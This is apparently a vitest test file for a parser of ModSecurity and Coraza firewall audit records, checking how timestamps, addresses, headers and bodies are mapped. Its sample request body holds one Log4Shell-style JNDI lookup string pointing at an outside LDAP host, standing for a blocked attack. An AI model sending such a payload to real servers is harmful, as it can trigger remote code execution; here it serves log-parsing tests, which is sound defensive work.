import { describe, expect, test } from 'vitest';
import { bytesFromText } from '../../model/bytes.ts';
import { createModSecurityParser } from './modsecurity.ts';

const parse = createModSecurityParser();
const line = (record: unknown): string => bytesFromText(JSON.stringify(record));
const AT = Date.UTC(2024, 2, 1, 4, 5, 6);
const transaction = {
  client_ip: '198.51.100.7',
  client_port: 4_711,
  host_ip: '10.0.0.5',
  host_port: 8_080,
  time_stamp: 'Fri Mar  1 04:05:06 2024',
  request: {
    method: 'POST',
    http_version: 1.1,
    uri: '/login?x=\u00e9',
    headers: { Host: 'example.org', 'X-Forwarded-For': '203.0.113.9' },
    body: 'a=${jndi:ldap://203.0.113.9/x}',
  },
  response: { http_code: 403, headers: {}, body: '' },
};

describe('an audit record of ModSecurity', () => {
  test('shows the whole request', () => {
    expect(parse(line({ transaction }))).toEqual({
      time: AT,
      peer: { address: '198.51.100.7', port: 4_711 },
      local: { address: '10.0.0.5', port: 8_080 },
      forwarded: '203.0.113.9',
      act: {
        type: 'http.request',
        method: 'POST',
        target: '/login?x=\u00c3\u00a9',
        version: '1.1',
        headers: [
          ['Host', 'example.org'],
          ['X-Forwarded-For', '203.0.113.9'],
        ],
        body: 'a=${jndi:ldap://203.0.113.9/x}',
        status: 403,
      },
      received: 79,
      sent: 0,
    });
  });

  test('lacks the parts that its configuration leaves out', () => {
    const request = { method: 'GET', http_version: 2, uri: '/' };

    expect(parse(line({ transaction: { ...transaction, request } }))).toMatchObject({
      act: { version: '2.0', lacks: ['headers', 'body'] },
    });
  });

  test('of Coraza has lists of header values and its own time', () => {
    const request = { ...transaction.request, http_version: 'HTTP/1.1', headers: { accept: ['a', 'b'] } };
    const coraza = {
      ...transaction,
      time_stamp: undefined,
      timestamp: '2024/03/01 04:05:06',
      request,
      response: { status: 200 },
    };

    expect(parse(line({ transaction: coraza }))).toMatchObject({
      time: AT,
      act: {
        version: '1.1',
        status: 200,
        headers: [
          ['accept', 'a'],
          ['accept', 'b'],
        ],
      },
    });
    expect(parse(line({ transaction: { ...coraza, unix_timestamp: AT * 1e6 } }))).toMatchObject({ time: AT });
  });

  test('of version 2 has the request beside the transaction', () => {
    const record = {
      transaction: {
        time: '01/Mar/2024:05:05:06.123456 +0100',
        remote_address: '2001:db8::7',
        remote_port: 5,
        local_address: '10.0.0.5',
        local_port: 80,
      },
      request: { request_line: 'GET /x HTTP/1.0', headers: { Host: 'a' }, body: ['a=1', '&b=2'] },
      response: { status: 200 },
    };

    expect(parse(line(record))).toMatchObject({
      time: AT + 123,
      peer: { address: '2001:db8::7', port: 5 },
      act: { target: '/x', version: '1.0', headers: [['Host', 'a']], body: 'a=1&b=2', status: 200 },
    });
  });

  test.for([
    ['{"transaction":{}}', 'it names no address'],
    ['{"request":{}}', 'it has no transaction'],
    ['--a1b2c3-A--', 'it is not a JSON object'],
  ] as const)('is broken: %s', ([text, why]) => {
    expect(parse(text)).toBe(why);
  });

  test('tells of nothing done where no request was read', () => {
    expect(parse('{"transaction":{"client_ip":"192.0.2.1","request":{}}}')).toBeUndefined();
  });
});
